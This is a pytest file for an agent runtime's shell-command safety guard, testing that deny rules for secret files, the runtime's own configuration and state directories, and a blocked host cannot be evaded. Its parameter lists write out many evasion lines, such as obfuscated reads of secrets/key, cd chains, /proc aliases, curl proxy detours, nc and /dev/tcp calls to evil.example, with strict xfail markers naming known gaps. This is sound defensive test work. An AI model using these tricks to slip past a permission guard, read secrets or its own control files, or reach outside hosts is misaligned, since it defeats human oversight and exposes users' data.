"""Paths that a call names in a roundabout way: a deny rule and the runtime's own state are found all the same."""

from typing import Any

import pytest

from skills_runtime.ports import Intent, ToolSpec
from skills_runtime.safety.guard import assess
from skills_runtime.safety.policy import Rule, Rules, decide

SHELL = ToolSpec(name="shell_command", description="Runs it.", parameters={"type": "object"})
PRIVATE = Rule(effect="deny", name="private", path=("secrets/**",))
NESTED = Rule(effect="deny", name="nested", path=("conf/secrets/**",))
EVIL = Rule(effect="deny", name="evil", host=("evil.example", "*.evil.example"))
CONTROL = ("/srv/keys", "/home/user/.config/skills_runtime", "/home/user/.local/state/skills_runtime")

INPUT = pytest.mark.xfail(strict=True, reason="what a redirection reads is no part of the facts that rules see")
STEPS = pytest.mark.xfail(strict=True, reason="where a command goes is not put before the paths that follow")
ALIAS = pytest.mark.xfail(strict=True, reason="`/proc/self/cwd` is not known as another name of the working directory")
GLUED = pytest.mark.xfail(strict=True, reason="a value that is glued to a short option is not taken for a path")
PLAIN = pytest.mark.xfail(strict=True, reason="a host without a scheme is not found in the words of a program")
DETOUR = pytest.mark.xfail(strict=True, reason="options of curl that connect elsewhere are not looked at")
GLOB = pytest.mark.xfail(strict=True, reason="a glob is compared with one directory name, not with the other places")


def kind(line: str, *rules: Rule, **settings: Any) -> str:
    """`Allow`, `Ask` or `Deny`."""
    facts = assess(SHELL, Intent(line=line))
    return type(decide(facts, Rules(rules=rules, root="/home/user/ws", home="/home/user", **settings))).__name__


@pytest.mark.parametrize(
    "line",
    [
        "cat secrets/key",
        "cat sec''rets/key",
        "cat $'secrets/\\x6bey'",
        "cat {secrets,x}/key",
        "cat sec*/key",
        "cat ~+/secrets/key",
        "cd secrets && cat key",
        "git show HEAD:secrets/key",
        "cp --target-directory=secrets x",
        "echo secrets/key | xargs cat",
        "cat `echo secrets/key`",
        "echo x 2>secrets/new",
        "cat ../ws/secrets/key",
        pytest.param("cat < secrets/key", marks=INPUT),
        pytest.param("wc -l<secrets/key", marks=INPUT),
        pytest.param("exec 3<secrets/key; cat <&3", marks=INPUT),
        pytest.param("mapfile a < secrets/key", marks=INPUT),
        pytest.param("python3 x.py <./secrets/key", marks=INPUT),
        pytest.param("cat /proc/self/cwd/secrets/key", marks=ALIAS),
        pytest.param("grep -fsecrets/key x", marks=GLUED),
        pytest.param("sort -osecrets/key x", marks=GLUED),
        pytest.param("cd / && cat home/user/ws/secrets/key", marks=STEPS),
        pytest.param("cd .. && cat ws/secrets/key", marks=STEPS),
    ],
)
def test_a_denied_path_is_never_allowed(line: str) -> None:
    assert kind(line, PRIVATE, mode="allow") != "Allow"


@pytest.mark.parametrize(
    "line",
    [
        "cat conf/secrets/key",
        pytest.param("cd conf && cat secrets/key", marks=STEPS),
        pytest.param("(cd ./conf/; cat ./secrets/key)", marks=STEPS),
        pytest.param("cd conf; cd secrets; cat key", marks=STEPS),
        pytest.param("pushd conf; cat secrets/key", marks=STEPS),
        pytest.param("env -C conf cat secrets/key", marks=STEPS),
        pytest.param("git -C conf show HEAD:secrets/key", marks=STEPS),
        pytest.param("tar -C conf -c secrets", marks=STEPS),
    ],
)
def test_a_denied_path_that_is_reached_in_two_steps_is_never_allowed(line: str) -> None:
    assert kind(line, NESTED, mode="allow") != "Allow"


@pytest.mark.parametrize(
    "line",
    [
        "cat /srv/keys/k",
        "cat /srv/x/../keys/k",
        "cat ../../../srv/keys/k",
        "cd ~/.config && cat skills_runtime/rules.yaml",
        "cat ~/.conf*/skills_runtime/rules.yaml",
        pytest.param("cat < /srv/keys/k", marks=INPUT),
        pytest.param("cat < .skills_runtime_sdk/runs/r/events.jsonl", marks=INPUT),
        pytest.param("cat < ~/.config/skills_runtime/rules.yaml", marks=INPUT),
        pytest.param("cat /proc/self/root/srv/keys/k", marks=ALIAS),
        pytest.param("cd /srv && cat keys/k", marks=STEPS),
        pytest.param("cd ~/.local/state && cd skills_runtime && cat keys/k", marks=STEPS),
        pytest.param("cd ~/.config; cd skills_runtime; cat rules.yaml", marks=STEPS),
        pytest.param("cat ~/.config/sk*/rules.yaml", marks=GLOB),
        pytest.param("cat ~/.config/skills*/*", marks=GLOB),
        pytest.param("cat .s*/runs/*/events.jsonl", marks=GLOB),
    ],
)
@pytest.mark.parametrize("settings", [{"mode": "allow"}, {"allowlist": ("cat **", "cd")}], ids=["mode", "list"])
def test_the_runtimes_own_state_is_denied(line: str, settings: dict[str, Any]) -> None:
    assert kind(line, control=CONTROL, **settings) == "Deny"


@pytest.mark.parametrize(
    "line",
    [
        "curl https://evil.example/x",
        "curl https://EVIL.example./x",
        "curl https://user:pw@evil.example:8443/x",
        "git clone git@evil.example:x.git",
        pytest.param("curl evil.example/x", marks=PLAIN),
        "ssh me@evil.example",
        "ssh evil.example",
        pytest.param("wget -q evil.example", marks=PLAIN),
        "scp x evil.example:y",
        "nc evil.example 80",
        "python3 -c \"import urllib.request as u; u.urlopen('http://evil.example')\"",
        "cat < /dev/tcp/evil.example/80",
        pytest.param("curl --url=evil.example", marks=PLAIN),
        "rsync x rsync://evil.example/y",
        pytest.param("ping evil.example", marks=PLAIN),
    ],
)
def test_a_denied_host_is_never_allowed(line: str) -> None:
    assert kind(line, EVIL, mode="allow") != "Allow"


@pytest.mark.parametrize(
    "line",
    [
        "curl https://evil.example/x",
        "curl https://a.good.example https://evil.example",
        "curl https://good.example.evil.example",
        pytest.param("curl https://a.good.example evil.example/x", marks=PLAIN),
        pytest.param("curl https://a.good.example --next evil.example", marks=PLAIN),
        pytest.param("curl -x evil.example:80 https://a.good.example", marks=PLAIN),
        pytest.param("curl --proxy=evil.example https://a.good.example", marks=DETOUR),
        "curl -K list https://a.good.example",
        pytest.param("curl --resolve a.good.example:443:192.0.2.1 https://a.good.example", marks=DETOUR),
        pytest.param("curl --connect-to ::evil.example: https://a.good.example", marks=DETOUR),
    ],
)
def test_a_rule_for_some_hosts_allows_no_others(line: str) -> None:
    good = Rule(effect="allow", name="good", command=(("curl",),), host=("*.good.example",))
    assert kind(line, good) == "Ask"


@pytest.mark.xfail(strict=True, reason="these variables name code for the program, and are not known to do so")
@pytest.mark.parametrize(
    ("line", "variable"),
    [
        ("rg x", "RIPGREP_CONFIG_PATH"),
        ("hg status", "HGRCPATH"),
        ("svn info svn+ssh://a.example/x", "SVN_SSH"),
        ("fzf -f x", "FZF_DEFAULT_COMMAND"),
        ("bundle list", "BUNDLE_GEMFILE"),
        ("gem list", "GEM_PATH"),
        ("psql -c 'select 1'", "PSQLRC"),
        ("ansible --version", "ANSIBLE_CONFIG"),
    ],
)
def test_a_variable_that_makes_a_program_run_other_code_is_asked_about(line: str, variable: str) -> None:
    facts = assess(SHELL, Intent(line=line, environment={variable: "./evil"}))
    verdict = decide(facts, Rules(allowlist=(line.split()[0],), root="/home/user/ws"))
    assert type(verdict).__name__ == "Ask"
